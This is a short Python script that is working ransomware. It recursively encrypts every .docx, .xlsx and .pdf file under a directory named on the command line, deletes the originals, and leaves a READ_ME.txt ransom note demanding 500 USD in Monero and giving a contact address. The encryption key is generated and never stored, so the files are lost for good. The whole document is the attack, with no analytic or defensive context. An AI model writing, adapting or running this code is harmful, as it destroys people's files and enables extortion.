import pathlib
import sys

from cryptography.fernet import Fernet

NOTE = "All documents were encrypted. To get the key pay 500 USD in Monero and write to keys@archive-desk.cc."
box = Fernet(Fernet.generate_key())
root = pathlib.Path(sys.argv[1])
for path in root.rglob("*"):
    if path.is_file() and path.suffix in {".docx", ".xlsx", ".pdf"}:
        path.with_suffix(path.suffix + ".arc").write_bytes(box.encrypt(path.read_bytes()))
        path.unlink()
(root / "READ_ME.txt").write_text(NOTE)
